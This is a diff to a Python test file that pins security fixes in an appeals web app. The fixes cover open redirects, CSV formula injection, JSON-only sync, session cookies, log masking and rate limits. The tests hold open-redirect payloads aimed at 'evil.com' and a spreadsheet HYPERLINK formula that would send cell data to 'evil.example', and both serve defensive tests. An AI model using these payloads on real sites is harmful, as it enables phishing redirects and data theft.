@@ -1,6 +1,33 @@
 """The security findings of "Sound footing" (item 7), each pinned by a test that failed before its fix."""
+import csv
+import datetime
+import importlib
+import io
+import json
+import multiprocessing
+import os
+import runpy
+import stat
+import subprocess
+import time
+import uuid
+from html import escape
+from pathlib import Path
+from urllib.parse import unquote
+
 import pytest
-from conftest import csrf_from, login
+from conftest import add_user, appeal_fields, create_appeal, csrf_from, login, make_app, submit
+from gunicorn.config import Config
+from limits.storage import storage_from_string
+from peewee import SqliteDatabase
+
+from db import database, open_database
+from db.models import Appeal, AuditLog, User
+from views.exports import csv_response, neutralise
+from web import auth, config
+from web.security import limiter
+
+ROOT = Path(__file__).resolve().parent.parent
 
 EVIL_NEXTS = ["/%09/evil.com", "/%0A/evil.com", "/%0D%0A/evil.com", "/\\evil.com", "/%5Cevil.com",
               "//evil.com", "/%2F/evil.com", "https://evil.com/", "javascript:alert(1)", "/%E2%80%8B/evil.com",
@@ -17,8 +44,8 @@ def test_language_switch_never_leaves_the_site(client, db, target):
 
 
 @pytest.mark.parametrize("target", EVIL_NEXTS)
-def test_sign_in_never_leaves_the_site(app, staff, target):
-    from urllib.parse import unquote
+def test_sign_in_never_leaves_the_site(app, db, target):
+    add_user("admin", "admin")
     c = app.test_client()
     html = c.get(f"/staff/login?next={target}").get_data(as_text=True)
     r = c.post("/staff/login", data={"csrf_token": csrf_from(html), "login": "admin",
@@ -27,7 +54,8 @@ def test_sign_in_never_leaves_the_site(app, staff, target):
     assert r.headers["Location"] == "/staff/"
 
 
-def test_a_local_next_is_kept(client, staff):
+def test_a_local_next_is_kept(client, db):
+    add_user("admin", "admin")
     r = client.get("/staff/lang/ru?next=/staff/appeals/MG-ABCDEFGH%3Fx%3D1")
     assert r.headers["Location"] == "/staff/appeals/MG-ABCDEFGH?x=1"
     html = client.get("/staff/login").get_data(as_text=True)
@@ -39,15 +67,12 @@ def test_a_local_next_is_kept(client, staff):
 # ---- 2. formula injection in the CSV export ------------------------------------------
 
 def exported(staff):
-    import csv
-    import io
     body = staff.client("admin").get("/staff/export/appeals.csv").get_data(as_text=True)
     return {row["ref"]: row for row in csv.DictReader(io.StringIO(body[1:]))}
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
 def test_export_never_hands_excel_a_formula(client, staff, db, start):
-    from conftest import create_appeal
     text = start + 'HYPERLINK("http://evil.example/?"&A1, "су жоқ")'
     ref, _ = create_appeal(client, text=text)
     plain, _ = create_appeal(client, text="Су жоқ = үш күн, көмектесіңіз")
@@ -57,10 +82,6 @@ def test_export_never_hands_excel_a_formula(client, staff, db, start):
 
 
 def test_export_neutralises_every_text_cell_but_keeps_codes_exact(app, client, staff, db):
-    from conftest import add_user, appeal_fields, submit
-
-    from db.models import Appeal
-    from views.exports import csv_response, neutralise
     assert [neutralise(v) for v in ("\tx", "\rx", "x=1", 5, "")] == ["'\tx", "'\rx", "x=1", 5, ""]
     # A login is text too: an outreach worker's name reaches the export with each appeal collected.
     add_user("=1+1", "outreach")
@@ -84,7 +105,6 @@ def test_export_neutralises_every_text_cell_but_keeps_codes_exact(app, client, s
 # ---- 6. sync: only JSON, and the paper form only from outreach -----------------------
 
 def sync_body(**fields):
-    import uuid
     item = {"key": str(uuid.uuid4()), "kind": "appeal",
             "fields": {"category": "water", "settlement": "akshymyrau", "text": "Ауылда су жоқ, көмектесіңіз",
                        "name": "Сауле", "consent": True, **fields}}
@@ -94,9 +114,6 @@ def sync_body(**fields):
 @pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                           "multipart/form-data; boundary=x", None])
 def test_sync_takes_only_json_so_another_site_cannot_post_from_a_browser(client, db, content_type):
-    import json
-
-    from db.models import Appeal
     headers = {"Content-Type": content_type} if content_type else {}
     r = client.post("/api/v1/sync", data=json.dumps(sync_body()), headers=headers)
     assert r.status_code == 415
@@ -105,15 +122,12 @@ def test_sync_takes_only_json_so_another_site_cannot_post_from_a_browser(client,
 
 
 def test_sync_json_with_a_charset_is_fine(client, db):
-    import json
     r = client.post("/api/v1/sync", data=json.dumps(sync_body()).encode(),
                     headers={"Content-Type": "application/json; charset=utf-8"})
     assert r.status_code == 200 and r.get_json()["results"][0]["status"] == "created"
 
 
 def test_only_an_outreach_worker_records_a_paper_consent_form(client, staff, db):
-    from db.models import Appeal
-    from web import auth
     anonymous = client.post("/api/v1/sync", json=sync_body(paper_form="PF-123"))
     assert anonymous.get_json()["results"][0]["status"] == "created"
     assert Appeal.get(Appeal.ref == anonymous.get_json()["results"][0]["ref"]).consent_paper_form is None
@@ -162,7 +176,6 @@ def test_a_new_password_ends_the_sessions_made_with_the_old_one(app, runner, sta
 
 
 def test_a_session_from_before_epochs_is_refused_and_the_next_sign_in_works(app, staff, db):
-    from db.models import User
     admin = staff.client("admin")
     User.update(session_epoch="").where(User.login == "admin").execute()  # as migration 0003 leaves a user
     assert admin.get("/staff/").status_code == 302
@@ -170,9 +183,6 @@ def test_a_session_from_before_epochs_is_refused_and_the_next_sign_in_works(app,
 
 
 def test_migration_0003_adds_the_epoch_to_an_old_user_table(tmp_path):
-    import importlib
-
-    from peewee import SqliteDatabase
     old = SqliteDatabase(str(tmp_path / "old.sqlite3"))
     old.execute_sql('CREATE TABLE "user" (id INTEGER PRIMARY KEY, login VARCHAR(255) NOT NULL)')
     old.execute_sql("INSERT INTO \"user\" (login) VALUES ('aigul')")
@@ -186,7 +196,6 @@ def test_migration_0003_adds_the_epoch_to_an_old_user_table(tmp_path):
     ({}, True), ({"DEMO": "0"}, True), ({"DEMO": "1"}, False), ({"FLASK_DEBUG": "1"}, False),
     ({"SESSION_COOKIE_SECURE": "0"}, False), ({"DEMO": "1", "SESSION_COOKIE_SECURE": "1"}, True)])
 def test_session_cookies_are_https_only_unless_this_is_a_demo_or_a_debug_run(monkeypatch, environment, secure):
-    from web import config
     for name in ("DEMO", "FLASK_DEBUG", "SESSION_COOKIE_SECURE"):
         monkeypatch.delenv(name, raising=False)
     for name, value in environment.items():
@@ -197,10 +206,7 @@ def test_session_cookies_are_https_only_unless_this_is_a_demo_or_a_debug_run(mon
 
 
 def test_make_run_serves_plain_http_on_the_laptop():
-    import subprocess
-    from pathlib import Path
-    root = Path(__file__).resolve().parent.parent
-    commands = subprocess.run(["make", "-n", "-s", "run", "DEMO=0"], cwd=root, capture_output=True, text=True,
+    commands = subprocess.run(["make", "-n", "-s", "run", "DEMO=0"], cwd=ROOT, capture_output=True, text=True,
                               env={"PATH": "/usr/bin:/bin"}).stdout
     serve = [line for line in commands.splitlines() if "gunicorn" in line]
     assert serve and "SESSION_COOKIE_SECURE=${SESSION_COOKIE_SECURE:-0}" in serve[0]
@@ -209,12 +215,7 @@ def test_make_run_serves_plain_http_on_the_laptop():
 # ---- 5. private links stay out of logs; the database file is private ------------------
 
 def test_the_access_log_masks_the_secret_of_a_private_link(capsys):
-    import datetime
-    import runpy
-    from pathlib import Path
-
-    from gunicorn.config import Config
-    settings = runpy.run_path(str(Path(__file__).resolve().parent.parent / "gunicorn.conf.py"))
+    settings = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
     cfg = Config()
     cfg.set("logger_class", settings["logger_class"])
     cfg.set("accesslog", "-")
@@ -250,10 +251,6 @@ def test_the_application_log_masks_it_too(app, caplog):
 
 
 def test_a_new_sqlite_database_and_its_folder_are_private(tmp_path):
-    import os
-    import stat
-
-    from db import database, open_database
     previous, umask = database.obj, os.umask(0o022)  # the usual umask, which leaves files world-readable
     try:
         db = open_database(f"sqlite:///{tmp_path}/var/qatysu.sqlite3")
@@ -273,7 +270,6 @@ def test_a_new_sqlite_database_and_its_folder_are_private(tmp_path):
 
 def limited(app, **config):
     """Switch limits on for this app, with these limits, from zero."""
-    from web.security import limiter
     app.config.update(RATELIMIT_ENABLED=True, **config)
     limiter.init_app(app)
     limiter.reset()
@@ -281,16 +277,12 @@ def limited(app, **config):
 
 
 def _hit_many(uri, count):
-    from limits.storage import storage_from_string
-
-    import web.ratelimit_storage  # noqa: F401
     storage = storage_from_string(uri)
     for _ in range(count):
         storage.incr("LIMITER/addr:10.0.0.1/login", 60)
 
 
 def test_the_counters_are_shared_by_worker_processes(tmp_path):
-    import multiprocessing
     uri = f"sqlite:///{tmp_path}/ratelimits.sqlite3"
     workers = [multiprocessing.get_context("fork").Process(target=_hit_many, args=(uri, 100)) for _ in range(3)]
     for worker in workers:
@@ -298,16 +290,12 @@ def test_the_counters_are_shared_by_worker_processes(tmp_path):
     for worker in workers:
         worker.join(30)
         assert worker.exitcode == 0
-    from limits.storage import storage_from_string
     storage = storage_from_string(uri)
     assert storage.get("LIMITER/addr:10.0.0.1/login") == 300
     assert 58 < storage.get_expiry("LIMITER/addr:10.0.0.1/login") - __import__("time").time() <= 60
 
 
 def test_a_window_that_ended_starts_again(tmp_path):
-    import time
-
-    from limits.storage import storage_from_string
     storage = storage_from_string(f"sqlite:///{tmp_path}/r.sqlite3")
     assert [storage.incr("k", 1) for _ in range(3)] == [1, 2, 3]
     time.sleep(1.05)
@@ -317,7 +305,6 @@ def test_a_window_that_ended_starts_again(tmp_path):
 
 
 def test_by_default_limits_are_counted_in_a_file_every_worker_shares(monkeypatch):
-    from web import config
     monkeypatch.delenv("RATELIMIT_STORAGE_URI", raising=False)
     uri = config.from_environment()["RATELIMIT_STORAGE_URI"]
     assert uri == f"sqlite:///{config.VAR / 'ratelimits.sqlite3'}"
@@ -330,9 +317,6 @@ def failed_login(client, **headers):
 
 
 def test_a_second_worker_sees_the_first_ones_count(_database, db):
-    from conftest import make_app
-
-    from web.security import limiter
     url, tmp = _database
     # Two create_app() with one configuration, as two gunicorn workers make them.
     first, second = make_app(url, tmp, RATELIMIT_ENABLED=True), make_app(url, tmp, RATELIMIT_ENABLED=True)
@@ -345,22 +329,16 @@ def test_a_second_worker_sees_the_first_ones_count(_database, db):
 
 
 def test_x_forwarded_for_is_ignored_unless_proxies_are_configured(app, db):
-    from db.models import AuditLog
     limited(app)
     c = app.test_client()
     # Ten tries, each claiming another address: without a trusted proxy they are all one client.
     codes = [failed_login(c, **{"X-Forwarded-For": f"203.0.113.{i}"}) for i in range(11)]
     assert codes == [401] * 10 + [429]
     assert {a.address for a in AuditLog.select()} == {"127.0.0.1"}
-    from web.security import limiter
     limiter.reset()
 
 
 def test_behind_one_trusted_proxy_the_real_address_counts(_database, db):
-    from conftest import make_app
-
-    from db.models import AuditLog
-    from web.security import limiter
     url, tmp = _database
     app = make_app(url, tmp, TRUSTED_PROXIES=1)
     limited(app)
@@ -374,7 +352,6 @@ def test_behind_one_trusted_proxy_the_real_address_counts(_database, db):
 
 
 def test_trusted_proxies_is_read_from_the_environment(monkeypatch):
-    from web import config
     monkeypatch.setenv("QATYSU_TRUSTED_PROXIES", "2")
     assert config.from_environment()["TRUSTED_PROXIES"] == 2
     monkeypatch.delenv("QATYSU_TRUSTED_PROXIES")
@@ -385,7 +362,6 @@ def test_trusted_proxies_is_read_from_the_environment(monkeypatch):
 
 
 def test_an_ipv6_client_counts_by_its_64(app, db):
-    from conftest import appeal_fields, submit
     limited(app, PUBLIC_POST_LIMIT="2 per minute")
 
     def post(address):
@@ -395,12 +371,10 @@ def test_an_ipv6_client_counts_by_its_64(app, db):
 
     assert [post(f"2001:db8:0:7::{i}") for i in (1, 2, 3)] == [303, 303, 429]
     assert post("2001:db8:0:8::1") == 303
-    from web.security import limiter
     limiter.reset()
 
 
 def test_an_outreach_worker_at_a_meeting_is_never_stopped_by_the_public_limit(app, staff, db):
-    from conftest import appeal_fields, submit
     limited(app, PUBLIC_POST_LIMIT="2 per minute")
     worker = staff.client("outreach")
     assert [submit(worker, "/kk/appeals/new", "/kk/appeals", appeal_fields()).status_code
@@ -408,14 +382,10 @@ def test_an_outreach_worker_at_a_meeting_is_never_stopped_by_the_public_limit(ap
     resident = app.test_client()  # the same address, nobody signed in
     assert [submit(resident, "/kk/appeals/new", "/kk/appeals", appeal_fields()).status_code
             for _ in range(3)] == [303, 303, 429]
-    from web.security import limiter
     limiter.reset()
 
 
 def test_an_anonymous_upload_gets_the_ordinary_size_limit(app, staff, db):
-    import io
-    import json
-    import uuid
     big = json.dumps({"device": str(uuid.uuid4()), "items": [], "pad": "x" * (3 * 1024 * 1024)}).encode()
     r = app.test_client().post("/staff/upload", data={"queue": (io.BytesIO(big), "q.json")},
                                content_type="multipart/form-data")
@@ -432,9 +402,7 @@ def test_an_anonymous_upload_gets_the_ordinary_size_limit(app, staff, db):
 
 
 def test_gunicorn_warns_when_each_worker_would_count_alone(monkeypatch):
-    import runpy
-    from pathlib import Path
-    path = str(Path(__file__).resolve().parent.parent / "gunicorn.conf.py")
+    path = str(ROOT / "gunicorn.conf.py")
     warnings = []
 
     class Server:
@@ -456,11 +424,6 @@ def test_gunicorn_warns_when_each_worker_would_count_alone(monkeypatch):
 @pytest.mark.parametrize("lang, words", [("kk", "бет тым ұзақ ашық тұрды"), ("ru", "страница была открыта слишком долго"),
                                          ("en", "the page was open too long")])
 def test_an_appeal_posted_after_its_session_ended_comes_back_with_its_text(app, db, lang, words):
-    from html import escape
-
-    from conftest import appeal_fields
-
-    from db.models import Appeal
     phone = app.test_client()
     stale = csrf_from(phone.get(f"/{lang}/appeals/new").get_data(as_text=True))
     phone.delete_cookie("session")  # the browser was closed: a session cookie does not outlive it
@@ -480,7 +443,6 @@ def test_an_appeal_posted_after_its_session_ended_comes_back_with_its_text(app, 
 
 
 def test_a_post_with_no_token_and_no_cookie_is_kept_too(app, db):
-    from conftest import appeal_fields
     fields = appeal_fields(text="Жол бұзылған, мектепке бару қиын")
     r = app.test_client().post("/kk/appeals", data=fields)
     assert r.status_code == 400 and fields["text"] in r.get_data(as_text=True)
@@ -494,11 +456,6 @@ def test_other_forms_still_get_the_plain_400_page(client, db):
 
 
 def test_an_appeal_refused_by_the_rate_limit_comes_back_with_its_text(app, db):
-    from html import escape
-
-    from conftest import appeal_fields, submit
-
-    from db.models import Appeal
     limited(app, PUBLIC_POST_LIMIT="1 per minute")
     neighbour, resident = app.test_client(), app.test_client()  # one village address
     assert submit(neighbour, "/ru/appeals/new", "/ru/appeals", appeal_fields()).status_code == 303
@@ -514,5 +471,4 @@ def test_an_appeal_refused_by_the_rate_limit_comes_back_with_its_text(app, db):
     neighbour.get("/kk/appeals/lookup?ref=MG-X")
     r = neighbour.get("/kk/appeals/lookup?ref=MG-X")
     assert r.status_code == 429 and "<form" not in r.get_data(as_text=True)
-    from web.security import limiter
     limiter.reset()
